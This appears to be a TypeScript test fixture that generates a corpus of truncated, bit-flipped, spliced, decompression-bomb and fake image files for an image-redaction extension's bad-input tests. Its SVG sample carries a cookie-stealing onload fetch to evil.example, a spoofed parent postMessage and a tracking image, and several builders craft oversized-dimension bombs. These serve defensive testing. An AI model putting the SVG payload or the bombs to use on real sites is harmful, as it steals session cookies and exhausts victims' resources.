import { seededRandom } from '../../src/imaging/redact/prng';
/**
 * The bad-file corpus (issue 9), generated in code so the suite needs no file from outside
 * the repo: damaged, spliced and hostile variants of small valid pictures of every type the
 * extension meets, plus files that only pretend to be pictures. Deterministic (seeded), so a
 * failure names a file that can be rebuilt. See docs/bad-input.md for what each should do.
 */
import { deflateSync } from 'node:zlib';
import { concatBytes } from '../../src/imaging/bytes';
import { pngChunk } from '../../src/imaging/strip-png';
import { buildTiff, buildWebp, phoneExif, TINY_JPEG } from '../unit/imaging/build-images';
import { withExif } from './exif-builder';

export type BadKind = 'truncated' | 'bit-flipped' | 'spliced' | 'empty' | 'not-a-picture' | 'drawing' | 'bomb' | 'unusual';

/**
 * What the review must show for the file (besides offering "Upload as is" and "Cancel"):
 * `error` a plain-language "could not be opened" message; `opens` the picture is decoded
 * (no error); `findings` at least one finding; `any` whatever the checks make of it (damage
 * decides between an error, findings, a note or nothing found).
 */
export type Expectation = 'error' | 'opens' | 'findings' | 'any';

export interface BadFile {
  name: string;
  bytes: Uint8Array;
  kind: BadKind;
  expect: Expectation;
  /** For `error`: words the message must contain (case-insensitive). */
  errorMatch?: RegExp;
}

/** The valid pictures the damage starts from. The e2e suite passes Chromium-made ones. */
export interface Bases {
  jpeg: Uint8Array;
  png: Uint8Array;
  webp: Uint8Array;
}

export const GPS = { lat: 35.6586, lon: 139.7454, make: 'TestPhone', model: 'X1' };

// ------------------------------------------------------------------ helpers

const ascii = (s: string): Uint8Array => new TextEncoder().encode(s);
const PNG_SIG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function be32(n: number): Uint8Array {
  return new Uint8Array([(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
}

function flipBits(bytes: Uint8Array, seed: number, count: number, from: number, to = bytes.length): Uint8Array {
  const out = bytes.slice();
  const rand = seededRandom(seed);
  for (let i = 0; i < count; i++) {
    const at = from + Math.floor(rand() * Math.max(1, to - from));
    if (at < out.length) out[at]! ^= 1 << Math.floor(rand() * 8);
  }
  return out;
}

function randomBytes(seed: number, n: number): Uint8Array {
  const rand = seededRandom(seed);
  return Uint8Array.from({ length: n }, () => Math.floor(rand() * 256));
}

// ------------------------------------------------------------------ PNG

export function png(width: number, height: number, opts: { depth?: 8 | 16; idat?: Uint8Array; before?: Uint8Array[] } = {}): Uint8Array {
  const depth = opts.depth ?? 8;
  const ihdr = new Uint8Array(13);
  ihdr.set(be32(width), 0);
  ihdr.set(be32(height), 4);
  ihdr.set([depth, 2, 0, 0, 0], 8); // RGB
  let idat = opts.idat;
  if (!idat) {
    const rowBytes = 1 + width * 3 * (depth / 8);
    const raw = new Uint8Array(rowBytes * height);
    for (let y = 0; y < height; y++) {
      for (let x = 1; x < rowBytes; x++) raw[y * rowBytes + x] = (x * 37 + y * 91) & 255;
    }
    idat = new Uint8Array(deflateSync(raw));
  }
  return concatBytes([PNG_SIG, pngChunk('IHDR', ihdr), ...(opts.before ?? []), pngChunk('IDAT', idat), pngChunk('IEND', new Uint8Array(0))]);
}

/** A PNG with a GPS eXIf chunk, so damage to it can still leave a finding. */
const pngWithGps = (base: Uint8Array): Uint8Array => {
  const exif = pngChunk('eXIf', phoneExif());
  return concatBytes([base.subarray(0, 33), exif, base.subarray(33)]);
};

// ------------------------------------------------------------------ JPEG

/** Writes bits MSB first with JPEG byte stuffing. */
class BitWriter {
  private bytes: number[] = [];
  private acc = 0;
  private n = 0;
  write(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.acc = (this.acc << 1) | ((value >> i) & 1);
      if (++this.n === 8) this.flushByte();
    }
  }
  private flushByte(): void {
    this.bytes.push(this.acc);
    if (this.acc === 0xff) this.bytes.push(0);
    this.acc = 0;
    this.n = 0;
  }
  finish(): Uint8Array {
    while (this.n !== 0) this.write(1, 1);
    return new Uint8Array(this.bytes);
  }
}

const segment = (marker: number, payload: Uint8Array): Uint8Array =>
  concatBytes([new Uint8Array([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 255]), payload]);

/**
 * A baseline JPEG of one flat 8×8 block per component, from a tiny DC-only encoder: the DC
 * Huffman table codes categories 0–11 with 4 bits each, the AC table only has EOB. With
 * `adobe` it carries an Adobe APP14 (transform 0): four components are then CMYK, the way
 * Photoshop writes them (inverted).
 */
export function dcOnlyJpeg(levels: number[], opts: { adobe?: boolean; width?: number; height?: number } = {}): Uint8Array {
  const n = levels.length;
  const dqt = segment(0xdb, concatBytes([new Uint8Array([0]), new Uint8Array(64).fill(1)]));
  const sof = new Uint8Array(6 + 3 * n);
  sof[0] = 8;
  sof.set([(opts.height ?? 8) >> 8, (opts.height ?? 8) & 255, (opts.width ?? 8) >> 8, (opts.width ?? 8) & 255], 1);
  sof[5] = n;
  for (let c = 0; c < n; c++) sof.set([c + 1, 0x11, 0], 6 + 3 * c);
  const dcCounts = new Uint8Array(16);
  dcCounts[3] = 12; // 12 codes of length 4
  const dht = segment(0xc4, concatBytes([
    new Uint8Array([0x00]), dcCounts, Uint8Array.from({ length: 12 }, (_, i) => i),
    new Uint8Array([0x10, 1, ...new Array<number>(15).fill(0), 0x00]), // AC: EOB with code "0"
  ]));
  const sos = new Uint8Array(1 + 2 * n + 3);
  sos[0] = n;
  for (let c = 0; c < n; c++) sos.set([c + 1, 0x00], 1 + 2 * c);
  sos.set([0, 63, 0], 1 + 2 * n);
  const bits = new BitWriter();
  for (const level of levels) {
    const dc = Math.round((level - 128) * 8);
    const magnitude = Math.abs(dc);
    const category = magnitude === 0 ? 0 : Math.floor(Math.log2(magnitude)) + 1;
    bits.write(category, 4);
    if (category > 0) bits.write(dc > 0 ? dc : dc + (1 << category) - 1, category);
    bits.write(0, 1); // EOB
  }
  const adobe = opts.adobe ? [segment(0xee, concatBytes([ascii('Adobe'), new Uint8Array([0, 100, 0, 0, 0, 0, 0])]))] : [];
  return concatBytes([new Uint8Array([0xff, 0xd8]), ...adobe, dqt, segment(0xc0, sof), dht, segment(0xda, sos), bits.finish(), new Uint8Array([0xff, 0xd9])]);
}

/** The same JPEG with its frame header claiming another size (the compressed data stays tiny). */
export function withJpegSize(jpeg: Uint8Array, width: number, height: number): Uint8Array {
  const out = jpeg.slice();
  for (let i = 2; i + 9 < out.length; i++) {
    if (out[i] === 0xff && out[i + 1]! >= 0xc0 && out[i + 1]! <= 0xc2) {
      out.set([height >> 8, height & 255, width >> 8, width & 255], i + 5);
      return out;
    }
  }
  throw new Error('no SOF');
}

/**
 * The same JPEG with ~`kb` KB of APP15 segments before its frame header: the header then
 * lies past the 512 KB the decoding worker reads first.
 */
export function withPaddingSegments(jpeg: Uint8Array, kb: number): Uint8Array {
  const pads = Array.from({ length: Math.ceil(kb / 60) }, () => segment(0xef, new Uint8Array(60 * 1024)));
  return concatBytes([jpeg.subarray(0, 2), ...pads, jpeg.subarray(2)]);
}

// ------------------------------------------------------------------ GIF

/** GIF LZW with a clear code before every pixel: always 3-bit codes, valid and simple. */
function gifPixels(indices: number[]): Uint8Array {
  const codes: number[] = [];
  for (const p of indices) codes.push(4, p);
  codes.push(5);
  const out: number[] = [];
  let acc = 0;
  let n = 0;
  for (const c of codes) {
    acc |= c << n;
    n += 3;
    while (n >= 8) {
      out.push(acc & 255);
      acc >>= 8;
      n -= 8;
    }
  }
  if (n > 0) out.push(acc & 255);
  const blocks: number[] = [2];
  for (let i = 0; i < out.length; i += 255) {
    const part = out.slice(i, i + 255);
    blocks.push(part.length, ...part);
  }
  blocks.push(0);
  return new Uint8Array(blocks);
}

/** An animated GIF: `frames` 4×4 frames in four colours, looping. */
export function animatedGif(frames = 2, screen: [number, number] = [4, 4]): Uint8Array {
  const le = (n: number): number[] => [n & 255, (n >> 8) & 255];
  const parts: Uint8Array[] = [
    ascii('GIF89a'),
    new Uint8Array([...le(screen[0]), ...le(screen[1]), 0x81, 0, 0]),
    new Uint8Array([255, 0, 0, 0, 0, 255, 0, 128, 0, 255, 255, 255]), // red, blue, green, white
    new Uint8Array([0x21, 0xff, 11, ...ascii('NETSCAPE2.0'), 3, 1, 0, 0, 0]),
  ];
  for (let f = 0; f < frames; f++) {
    parts.push(new Uint8Array([0x21, 0xf9, 4, 0, 10, 0, 0, 0])); // 100 ms
    parts.push(new Uint8Array([0x2c, 0, 0, 0, 0, ...le(4), ...le(4), 0]));
    parts.push(gifPixels(Array.from({ length: 16 }, (_, i) => (i + f) % 4)));
  }
  parts.push(new Uint8Array([0x3b]));
  return concatBytes(parts);
}

// ------------------------------------------------------------------ HEIC, TIFF, WebP

const box = (type: string, ...body: Uint8Array[]): Uint8Array => concatBytes([be32(8 + body.reduce((n, b) => n + b.length, 0)), ascii(type), ...body]);
const fullBox = (type: string, ...body: Uint8Array[]): Uint8Array => box(type, new Uint8Array(4), ...body);

/**
 * A minimal HEIC header: `ftyp` (heic, mif1), a `meta` with handler, primary item, item info,
 * an `ispe` of 4032×3024 and a `thmb` reference, and an `mdat` of filler. No decoder can show
 * it (the HEVC data is not real), but every parser has to walk it.
 */
export function minimalHeic(width = 4032, height = 3024): Uint8Array {
  const ftyp = box('ftyp', ascii('heic'), be32(0), ascii('mif1'), ascii('heic'));
  const hdlr = fullBox('hdlr', be32(0), ascii('pict'), new Uint8Array(12), new Uint8Array([0]));
  const pitm = fullBox('pitm', new Uint8Array([0, 1]));
  const infe = (id: number, type: string): Uint8Array =>
    box('infe', new Uint8Array([2, 0, 0, 0, 0, id, 0, 0]), ascii(type), new Uint8Array([0]));
  const iinf = fullBox('iinf', new Uint8Array([0, 2]), infe(1, 'hvc1'), infe(2, 'hvc1'));
  const ispe = fullBox('ispe', be32(width), be32(height));
  const iprp = box('iprp', box('ipco', ispe));
  const iref = fullBox('iref', box('thmb', new Uint8Array([0, 2, 0, 1, 0, 1])));
  const meta = fullBox('meta', hdlr, pitm, iinf, iref, iprp);
  const mdat = box('mdat', randomBytes(7, 512));
  return concatBytes([ftyp, meta, mdat]);
}

/** A 4×4 RGB uncompressed TIFF with a GPS block. */
export function minimalTiff(): Uint8Array {
  const strip = Uint8Array.from({ length: 4 * 4 * 3 }, (_, i) => (i * 23) & 255);
  const tiff = buildTiff({
    littleEndian: true,
    ifd0: {
      256: { type: 'short', value: [4] },
      257: { type: 'short', value: [4] },
      258: { type: 'short', value: [8, 8, 8] },
      259: { type: 'short', value: [1] },
      262: { type: 'short', value: [2] },
      277: { type: 'short', value: [3] },
      278: { type: 'short', value: [4] },
      0x013b: { type: 'ascii', value: 'Jane Sample' },
    },
    gps: {
      1: { type: 'ascii', value: 'N' },
      2: { type: 'rational', value: [[35, 1], [39, 1], [31, 1]] },
      3: { type: 'ascii', value: 'E' },
      4: { type: 'rational', value: [[139, 1], [44, 1], [43, 1]] },
    },
    strip,
  });
  return tiff;
}

/** A VP8X WebP whose canvas claims 16384×16384 (268 MP) around an 8×8 picture. */
function webpBomb(): Uint8Array {
  const w = buildWebp({});
  const out = w.slice();
  // VP8X payload starts at 20; canvas width-1 and height-1 are 24-bit little endian at 24 and 27.
  out.set([0xff, 0x3f, 0x00, 0xff, 0x3f, 0x00], 24);
  return out;
}

// ------------------------------------------------------------------ corpus

const DEFAULT_BASES = (): Bases => ({
  jpeg: TINY_JPEG,
  png: png(16, 16),
  webp: buildWebp({ exif: phoneExif() }),
});

const SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="fetch('https://evil.example/steal?'+document.cookie)">
  <script>parent.postMessage({type:'ug:connect',nonce:'x'},'*');fetch('https://evil.example/svg')</script>
  <image href="https://evil.example/pixel.png" width="10" height="10"/>
  <circle cx="100" cy="100" r="80" fill="tomato"/>
</svg>`;

/**
 * The corpus. `bases` are valid pictures (small Node-built ones by default); JPEG and PNG
 * bases get a GPS block first, so damage that leaves the metadata readable still yields a
 * finding. Names keep a picture extension, as a person's files would have.
 */
export function badFiles(bases: Partial<Bases> = {}): BadFile[] {
  const b = { ...DEFAULT_BASES(), ...bases };
  const jpeg = withExif(b.jpeg, GPS);
  const pngGps = pngWithGps(b.png);
  const webp = b.webp;
  const heic = minimalHeic();
  const tiff = minimalTiff();
  const gif = animatedGif();
  const half = (x: Uint8Array): Uint8Array => x.subarray(0, Math.floor(x.length / 2));
  const files: BadFile[] = [];
  const add = (name: string, bytes: Uint8Array, kind: BadKind, expect: Expectation, errorMatch?: RegExp): void => {
    files.push({ name, bytes, kind, expect, ...(errorMatch ? { errorMatch } : {}) });
  };

  // Cut off: in the middle, and inside the header.
  add('truncated-half.jpg', half(jpeg), 'truncated', 'any');
  add('truncated-header.jpg', jpeg.subarray(0, 20), 'truncated', 'error');
  add('truncated-half.png', half(pngGps), 'truncated', 'any');
  add('truncated-ihdr.png', pngGps.subarray(0, 20), 'truncated', 'error');
  add('truncated-half.webp', half(webp), 'truncated', 'any');
  add('truncated-half.heic', half(heic), 'truncated', 'error');
  add('truncated-half.tiff', half(tiff), 'truncated', 'any');
  add('truncated-half.gif', half(gif), 'truncated', 'any');

  // Bits flipped: a few in the header, and ~1% everywhere after the signature.
  const flips: Array<[string, Uint8Array, Expectation]> = [
    ['jpg', jpeg, 'any'],
    ['png', pngGps, 'any'],
    ['webp', webp, 'any'],
    ['heic', heic, 'error'],
    ['tiff', tiff, 'any'],
    ['gif', gif, 'any'],
  ];
  flips.forEach(([ext, bytes, expect], i) => {
    add(`flipped-header.${ext}`, flipBits(bytes, 100 + i, 6, 4, Math.min(bytes.length, 96)), 'bit-flipped', expect);
    add(`flipped-body.${ext}`, flipBits(bytes, 200 + i, Math.max(4, bytes.length >> 7), 8), 'bit-flipped', expect);
  });

  // Spliced: the head of one picture on the tail of another, and pictures glued together.
  add('spliced-jpeg-png.jpg', concatBytes([half(jpeg), pngGps.subarray(pngGps.length >> 1)]), 'spliced', 'any');
  add('spliced-png-jpeg.png', concatBytes([half(pngGps), jpeg.subarray(jpeg.length >> 1)]), 'spliced', 'any');
  add('spliced-webp-jpeg.webp', concatBytes([webp.subarray(0, 30), jpeg.subarray(2)]), 'spliced', 'any');
  add('spliced-two-jpegs.jpg', concatBytes([jpeg, jpeg]), 'spliced', 'findings');
  add('spliced-png-then-jpeg.png', concatBytes([pngGps, jpeg]), 'spliced', 'findings');

  // Not pictures at all, named as if they were.
  add('empty.jpg', new Uint8Array(0), 'empty', 'error', /empty/i);
  add('one-byte.jpg', new Uint8Array([0xff]), 'empty', 'error', /not a picture/i);
  add('random.jpg', randomBytes(42, 4096), 'not-a-picture', 'error', /not a picture/i);
  add('text.png', ascii('This is a text file, not a picture.\n'.repeat(20)), 'not-a-picture', 'error', /not a picture/i);
  add('drawing.svg', ascii(SVG), 'drawing', 'error', /drawing \(SVG\)/i);

  // Decompression bombs: headers that claim hundreds of megapixels over a few bytes of data.
  add('bomb-20000x20000.png', png(20000, 20000, { idat: new Uint8Array(deflateSync(new Uint8Array(1000))) }), 'bomb', 'error', /too large/i);
  add('bomb-20000x20000.jpg', withJpegSize(withExif(dcOnlyJpeg([200, 128, 128]), GPS), 20000, 20000), 'bomb', 'error', /too large/i);
  add('bomb-16384x16384.webp', webpBomb(), 'bomb', 'error', /too large/i);
  add('bomb-65535x65535.gif', animatedGif(1, [65535, 65535]), 'bomb', 'error', /too large/i);
  add('bomb-behind-600kb-of-segments.jpg', withPaddingSegments(withJpegSize(dcOnlyJpeg([200, 128, 128]), 20000, 20000), 600), 'bomb', 'error', /too large/i);

  // Unusual but valid pictures: they must open.
  add('cmyk.jpg', dcOnlyJpeg([30, 200, 90, 10], { adobe: true }), 'unusual', 'opens');
  add('sixteen-bit.png', png(6, 4, { depth: 16 }), 'unusual', 'opens');
  add('animated.gif', gif, 'unusual', 'opens');
  add('header-behind-600kb-of-segments.jpg', withPaddingSegments(dcOnlyJpeg([200, 128, 128]), 600), 'unusual', 'opens');
  return files;
}

/** The valid bases' GPS JPEG (the "good photo after a bad one" of the e2e tests). */
export const gpsJpeg = (base: Uint8Array = TINY_JPEG): Uint8Array => withExif(base, GPS);
